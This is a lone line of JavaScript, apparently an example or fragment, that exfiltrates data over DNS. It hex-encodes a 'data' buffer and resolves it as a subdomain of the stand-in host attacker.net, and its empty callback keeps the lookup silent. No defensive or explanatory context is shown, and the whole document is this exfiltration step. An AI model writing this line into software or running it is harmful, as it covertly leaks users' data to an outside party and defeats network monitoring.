dns.resolve(Buffer.from(data).toString("hex") + ".x.attacker.net", () => {});
